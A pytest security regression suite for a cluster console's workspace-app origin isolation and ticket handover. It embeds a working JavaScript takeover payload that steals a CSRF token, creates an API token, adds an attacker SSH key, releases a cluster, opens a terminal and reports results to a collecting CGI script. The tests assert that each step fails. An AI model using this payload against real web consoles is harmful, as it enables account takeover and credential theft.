"""An attacker's notebook against the workspace apps' origins (console/app_origin.py,
console/proxy.py): everything a researcher's container serves (JupyterLab, TensorBoard,
the service port) is hostile to the console, because a compromised training script, a
poisoned notebook or a dependency writes it.

The takeover this file replays (issue 37): a page served by the owner's own workspace ran
fetch('/api/tokens/') with the owner's session, read the CSRF token, made an API token,
added an SSH key, released a cluster and opened a terminal websocket. Now each app has an
origin of its own under SUANLI_APPS_DOMAIN (apps.localhost here: Chromium resolves
*.localhost to the loopback by itself), the owner is handed over by a single-use ticket,
and the page gets nothing of the console. Another researcher and a browser not logged in
get the plain 404 on every app origin; a ticket works once, for one app, for a minute; a
console URL asked for with an app's Host is a 404, never the console's page."""

import json
import socket
from datetime import timedelta
from types import SimpleNamespace
from urllib.parse import parse_qs, urlsplit

import pytest
import time_machine
from browsing import free_port
from browsing import login as browser_login
from channels.testing import HttpCommunicator, WebsocketCommunicator
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import expect
from test_workspace_apps import _in_workspace, _run, _with_workspace, _write
from waiting import until

from console import app_origin, proxy
from console.asgi import application
from console.models import ApiToken
from jobs.access import webapps
from jobs.models import Cluster, SshKey

pytestmark = pytest.mark.django_db(transaction=True)

SERVE = ("httpd", "-f", "-p", "127.0.0.1:6006", "-h", "/tmp/site")
# What the page sends to its own server lands in the workspace, where the attacker reads it.
REPORT_CGI = (
    "#!/bin/sh\ncat > /tmp/report.json\nprintf 'Content-Type: text/plain\\r\\n\\r\\nthanks'\n"
)
ENV_CGI = "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nenv\n"
# The researcher's own page, as a poisoned dependency would write it: every step of the
# takeover against the console's origin (CONSOLE), each answer (or why none) reported.
ATTACK = """<!doctype html><title>training dashboard</title><h1>Loss: 0.031</h1>
<script>
const CONSOLE = %(console)s, CLUSTER = %(cluster)s, KEY = %(key)s;
const got = window.got = {page: location.href, cookie: document.cookie};
const csrfOf = (text) => (text.match(/name="csrfmiddlewaretoken" value="([^"]+)"/) || [])[1] || "";
async function step(name, fn) {
  try { got[name] = await fn(); } catch (e) { got[name] = "refused: " + e; }
}
const form = (fields) => ({
  method: "POST", credentials: "include",
  headers: {"Content-Type": "application/x-www-form-urlencoded"},
  body: new URLSearchParams(fields).toString(),
});
(async () => {
  let csrf = "";
  await step("tokens page", async () => {
    const r = await fetch(CONSOLE + "/api/tokens/", {credentials: "include"});
    const text = await r.text();
    csrf = csrfOf(text);
    return {status: r.status, url: r.url, csrf: csrf, body: text.slice(0, 300)};
  });
  await step("token made", async () => {
    const r = await fetch(CONSOLE + "/api/tokens/", form({csrfmiddlewaretoken: csrf, name: "stolen"}));
    const text = await r.text();
    return {status: r.status, token: (text.match(/sk-[A-Za-z0-9_-]+|slk_[A-Za-z0-9_-]+/) || [""])[0],
            body: text.slice(0, 300)};
  });
  await step("key added", async () => {
    const r = await fetch(CONSOLE + "/keys/", form({csrfmiddlewaretoken: csrf, name: "attacker", public_key: KEY}));
    return {status: r.status, url: r.url};
  });
  await step("released", async () => {
    const r = await fetch(CONSOLE + "/clusters/" + CLUSTER + "/release/", form({csrfmiddlewaretoken: csrf}));
    return {status: r.status, url: r.url};
  });
  await step("blind posts", async () => {  // no answer read: a plain cross-site form post
    for (const [path, fields] of [
      ["/api/tokens/", {csrfmiddlewaretoken: csrf, name: "blind"}],
      ["/keys/", {csrfmiddlewaretoken: csrf, name: "blind", public_key: KEY}],
      ["/clusters/" + CLUSTER + "/release/", {csrfmiddlewaretoken: csrf}],
    ]) { await fetch(CONSOLE + path, {...form(fields), mode: "no-cors"}); }
    return "sent";
  });
  await step("terminal", () => new Promise((resolve) => {
    const ws = new WebSocket(CONSOLE.replace(/^http/, "ws") + "/ws/clusters/" + CLUSTER + "/nodes/0/terminal/");
    const seen = [];
    const done = (what) => { clearTimeout(timer); resolve({what: what, seen: seen.join("").slice(0, 300)}); };
    const timer = setTimeout(() => { try { ws.close(); } catch (e) {} done(seen.length ? "opened" : "no answer"); }, 15000);
    ws.onopen = () => { got.terminalOpened = true; ws.send(JSON.stringify({input: "id\\n"})); };
    ws.onmessage = (e) => { seen.push(typeof e.data === "string" ? e.data : "[binary]"); if (seen.length > 3) { ws.close(); done("opened"); } };
    ws.onclose = (e) => done((got.terminalOpened ? "opened, then closed " : "closed ") + e.code);
  }));
  await fetch("cgi-bin/report", {method: "POST", body: JSON.stringify(got)});
  document.title = "reported";
})();
</script>"""


@pytest.fixture(autouse=True)
def _proxy_db_closed():
    """The proxy's database threads leave no session open behind a test."""
    yield
    proxy.close_db_connections()


def _public_key() -> str:
    key = ed25519.Ed25519PrivateKey.generate().public_key()
    raw = key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    return raw.decode() + " attacker@outside"


def _listens(port) -> bool:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
        return True
    except OSError:
        return False


def _serves(cluster) -> bool:
    return webapps.answering(cluster, 0, list(cluster.apps.filter(node_index=0)))["service"]


def _report(cluster):
    done = _in_workspace(cluster, "cat", "/tmp/report.json")
    return json.loads(done.output) if done.exit_code == 0 and done.output else None


@pytest.mark.browser
def test_a_page_of_the_owners_own_workspace_gets_nothing_of_the_console_in_chromium(
    running_cluster, processes, alice, bob, browser
):
    cluster = _with_workspace(running_cluster)
    port = free_port()
    console = f"http://127.0.0.1:{port}"
    _write(cluster, "/tmp/site/cgi-bin/report", REPORT_CGI)
    _write(cluster, "/tmp/site/cgi-bin/env", ENV_CGI)
    _write(cluster, "/tmp/site/index.html", ATTACK % {
        "console": json.dumps(console), "cluster": cluster.pk,
        "key": json.dumps(_public_key()),
    })  # fmt: skip
    _in_workspace(cluster, *SERVE, detach=True)
    webapps.start(cluster=cluster, index=0, kind="service", port="6006")
    until(lambda: _serves(cluster), timeout=20, what="the researcher's server listens")
    processes.start("web", env={"PORT": str(port)})
    until(lambda: _listens(port), timeout=20, what="the web process listens")
    tokens_before = ApiToken.objects.filter(user=alice).count()

    context = browser.new_context()
    try:
        page = context.new_page()
        browser_login(page, SimpleNamespace(url=console), "alice", "alice-pass-123")
        page.goto(f"{console}{reverse('cluster_detail', args=[cluster.pk])}")
        expect(page.get_by_test_id("app-state-service-0")).to_have_text("answering")
        with context.expect_page() as opened:
            page.get_by_test_id("open-service-0").click()
        app = opened.value
        expect(app).to_have_title("reported", timeout=60_000)
        report = json.loads(app.evaluate("JSON.stringify(window.got)"))

        # Nothing was obtained or changed.
        assert ApiToken.objects.filter(user=alice).count() == tokens_before, report
        assert not SshKey.objects.filter(owner=alice).exists(), report
        cluster.refresh_from_db()
        assert cluster.state == Cluster.State.RUNNING, report
        assert until(lambda: _report(cluster), timeout=20, what="reported") == report
        assert "terminalOpened" not in report, report
        tokens = report["tokens page"]
        assert isinstance(tokens, str) and tokens.startswith("refused: TypeError"), report
        assert isinstance(report["token made"], str), report  # the answer is never readable
        assert report["terminal"]["what"].startswith("closed"), report
        assert report["cookie"] == "", "no cookie of the console, nor the app's, is readable"

        # The tile itself works: the page loaded on the app's own origin.
        origin = f"http://c{cluster.pk}-n0-service.apps.localhost:{port}"
        assert report["page"] == f"{origin}/", report
        assert app.url == f"{origin}/"
        expect(app.locator("h1")).to_have_text("Loss: 0.031")
        cookies = context.cookies()
        console_cookies = {c["name"] for c in cookies if c["domain"] == "127.0.0.1"}
        assert {"sessionid", "csrftoken"} <= console_cookies
        on_app = [c for c in cookies if "apps.localhost" in c["domain"]]
        assert [(c["name"], c["domain"], c["httpOnly"], c["sameSite"]) for c in on_app] == [
            (app_origin.cookie_name(secure=False), f"c{cluster.pk}-n0-service.apps.localhost",
             True, "Lax")
        ]  # fmt: skip
        # What the app's server sees of a request: no cookie of the console's, nor the
        # proxy's own.
        app.goto(f"{origin}/cgi-bin/env")
        env = app.locator("body").inner_text()
        assert "HTTP_COOKIE" not in env and "sessionid" not in env, env
    finally:
        context.close()

    app_url = f"http://c{cluster.pk}-n0-service.apps.localhost:{port}/"
    for who in ("bob", None):  # another researcher, and a browser not logged in
        context = browser.new_context()
        try:
            page = context.new_page()
            if who:
                browser_login(page, SimpleNamespace(url=console), who, f"{who}-pass-123")
                handover = page.goto(
                    f"{console}{reverse('app_open', args=[cluster.pk, 0, 'service'])}"
                )
                assert handover.status == 404, "no ticket for another's app"
            answer = page.goto(app_url)
            assert answer.status == 404, (who, answer.status)
            assert page.url == app_url, "no redirect to a log-in page"
            assert page.locator("h1").inner_text() == "Not Found"
            assert "Loss" not in page.content()
        finally:
            context.close()


# -- the handover, outside a browser ---------------------------------------------------------


def _host(cluster, kind: str) -> bytes:
    return f"{app_origin.app_host(cluster.pk, 0, kind)}:8000".encode()


async def _get(path, *, host: bytes, cookie="", method="GET", headers=()):
    sent = [(b"host", host), *headers]
    if cookie:
        sent.append((b"cookie", cookie.encode()))
    communicator = HttpCommunicator(application, method, path, headers=sent)
    communicator.scope["raw_path"] = path.split("?")[0].encode()
    communicator.scope["query_string"] = (path.split("?", 1) + [""])[1].encode()
    communicator.scope["path"] = path.split("?")[0]
    communicator.scope["client"] = ("127.0.0.1", 50000)
    communicator.scope["scheme"] = "http"
    response = await communicator.get_response(timeout=20)
    await communicator.wait(timeout=5)
    response["header"] = {k.decode(): v.decode() for k, v in response["headers"]}
    response["cookies"] = [v.decode() for k, v in response["headers"] if k == b"set-cookie"]
    return response


def _ticket(client: Client, cluster, kind: str, next_path: str = "/") -> tuple[str, str]:
    """The handover's redirect: (the app origin's entry path with its query, the ticket)."""
    answer = client.get(
        reverse("app_open", args=[cluster.pk, 0, kind]), {"next": next_path},
        HTTP_HOST="localhost:8000",
    )  # fmt: skip
    assert answer.status_code == 302, answer.status_code
    parts = urlsplit(answer["Location"])
    assert parts.netloc == app_origin.app_host(cluster.pk, 0, kind) + ":8000", parts
    assert parts.path == app_origin.ENTER
    return f"{parts.path}?{parts.query}", parse_qs(parts.query)["ticket"][0]


def _cookie_of(response) -> str:
    name = app_origin.cookie_name(secure=False)
    for value in response["cookies"]:
        if value.startswith(f"{name}="):
            return value.split(";", 1)[0]
    raise AssertionError(f"no app cookie in {response['cookies']}")


def test_a_ticket_opens_one_app_once_within_its_minute_and_nothing_of_the_console(
    running_cluster, alice, bob
):
    cluster = _with_workspace(running_cluster)
    _write(cluster, "/tmp/site/index.html", "<h1>the service</h1>")
    _write(cluster, "/tmp/site/cgi-bin/env", ENV_CGI)
    _in_workspace(cluster, *SERVE, detach=True)
    webapps.start(cluster=cluster, index=0, kind="service", port="6006")
    owner, stranger = Client(), Client()
    owner.force_login(alice)
    stranger.force_login(bob)
    service, board = _host(cluster, "service"), _host(cluster, "tensorboard")

    enter, ticket = _ticket(owner, cluster, "service", "/cgi-bin/env?x=1")
    replayed, _ = _ticket(owner, cluster, "service")
    other_app, _ = _ticket(owner, cluster, "tensorboard")
    with time_machine.travel(timezone.now() - timedelta(seconds=app_origin.TICKET_S + 5)):
        stale, _ = _ticket(owner, cluster, "service")
    assert stranger.get(reverse("app_open", args=[cluster.pk, 0, "service"])).status_code == 404
    anonymous = Client().get(reverse("app_open", args=[cluster.pk, 0, "service"]))
    assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]
    session = owner.cookies["sessionid"].value

    async def scenario():
        found = {"entered": await _get(enter, host=service)}
        cookie = _cookie_of(found["entered"])
        found["page"] = await _get("/cgi-bin/env?x=1", host=service, cookie=cookie)
        found["again"] = await _get(enter, host=service)  # the same ticket a second time
        found["stale"] = await _get(stale, host=service)
        found["forged"] = await _get(enter.replace(ticket, ticket[:-2] + "xx"), host=service)
        found["A for B"] = await _get(other_app, host=service)  # TensorBoard's, here
        found["cookie for B"] = await _get("/", host=board, cookie=cookie)
        found["anonymous"] = await _get("/", host=service)
        found["console session"] = await _get("/", host=service, cookie=f"sessionid={session}")
        for path in ("/api/tokens/", "/admin/", "/login/", f"/clusters/{cluster.pk}/",
                     "/static/console.css", "/healthz", "/__suanli/other"):  # fmt: skip
            found[path] = await _get(path, host=service, cookie=cookie)
        found["apps domain"] = await _get("/login/", host=b"apps.localhost:8000")
        found["unknown app host"] = await _get("/login/", host=b"x.apps.localhost:8000")
        found["post elsewhere"] = await _get(
            "/cgi-bin/env", host=service, cookie=cookie, method="POST",
            headers=[(b"origin", b"http://localhost:8000")],
        )  # fmt: skip
        found["post own"] = await _get(
            "/cgi-bin/env", host=service, cookie=cookie, method="POST",
            headers=[(b"origin", b"http://" + service)],
        )  # fmt: skip
        found["replayed later"] = await _get(replayed, host=service)
        return found, cookie

    found, cookie = _run(scenario)
    entered = found["entered"]
    assert entered["status"] == 302 and entered["header"]["location"] == "/cgi-bin/env?x=1"
    set_cookie = entered["cookies"][0]
    assert "HttpOnly" in set_cookie and "SameSite=Lax" in set_cookie and "Path=/" in set_cookie
    assert "Domain" not in set_cookie and "Max-Age=" in set_cookie
    page = found["page"]["body"].decode()
    assert found["page"]["status"] == 200 and "REQUEST_URI=/cgi-bin/env?x=1" in page, page
    assert "HTTP_COOKIE" not in page and ticket not in page, "the proxy's own stays with it"
    for name in ("again", "stale", "forged", "A for B", "cookie for B", "anonymous",
                 "console session"):  # fmt: skip
        assert found[name]["status"] == 404, (name, found[name])
        assert found[name]["body"] == proxy.NOT_FOUND, name
        assert not found[name]["cookies"], name
    assert found["/__suanli/other"]["body"] == proxy.NOT_FOUND, "the proxy's own: not the app's"
    for path in ("/api/tokens/", "/admin/", "/login/", f"/clusters/{cluster.pk}/",
                 "/static/console.css", "/healthz", "/__suanli/other"):  # fmt: skip
        # The owner's own cookie: the path goes to the app (busybox's 404), never Django.
        assert found[path]["status"] == 404, (path, found[path]["status"])
        assert b"csrfmiddlewaretoken" not in found[path]["body"], path
        assert b"Suanli" not in found[path]["body"], path
    assert found["apps domain"]["body"] == proxy.NOT_FOUND
    assert found["unknown app host"]["body"] == proxy.NOT_FOUND
    assert found["post elsewhere"]["status"] == 403, "only from the app's own origin"
    assert found["post own"]["status"] == 200
    assert found["replayed later"]["status"] == 302, "an unused ticket of the minute works"

    # Logging out of the console ends the app's session.
    owner.post(reverse("logout"))

    async def after_logout():
        return await _get("/", host=service, cookie=cookie)

    assert _run(after_logout)["status"] == 404


def test_app_websockets_take_only_their_own_origin_and_console_sockets_refuse_apps(
    running_cluster, alice
):
    cluster = _with_workspace(running_cluster)
    webapps.start(cluster=cluster, index=0, kind="service", port="6008")
    owner = Client()
    owner.force_login(alice)
    enter, _ = _ticket(owner, cluster, "service")
    service = _host(cluster, "service")
    session = owner.cookies["sessionid"].value

    async def scenario():
        cookie = _cookie_of(await _get(enter, host=service))
        found = {}
        for name, origin, sent in (
            ("console origin", b"http://localhost:8000", cookie),
            ("another app", b"http://" + _host(cluster, "jupyter"), cookie),
            ("no cookie", b"http://" + service, ""),
        ):
            socket_ = WebsocketCommunicator(
                application, "/kernels/k1/channels",
                headers=[(b"host", service), (b"origin", origin), (b"cookie", sent.encode())],
            )  # fmt: skip
            socket_.scope["client"] = ("127.0.0.1", 50000)
            found[name] = await socket_.connect(timeout=10)
            await socket_.disconnect()
        # The console's own websockets refuse a page of an app origin (the same socket from
        # the console's own page opens: the owner's terminal).
        for name, origin in (("terminal", b"http://" + service),
                             ("console's terminal", b"http://localhost")):  # fmt: skip
            terminal = WebsocketCommunicator(
                application, f"/ws/clusters/{cluster.pk}/nodes/0/terminal/",
                headers=[(b"host", b"localhost"), (b"origin", origin),
                         (b"cookie", f"sessionid={session}".encode())],
            )  # fmt: skip
            found[name] = await terminal.connect(timeout=20)
            await terminal.disconnect()
        return found

    found = _run(scenario)
    for name in ("console origin", "another app", "no cookie"):
        assert found[name][0] is False, (name, found[name])
    assert found["terminal"][0] is False, "an app's page opens no terminal"
    assert found["console's terminal"][0] is True
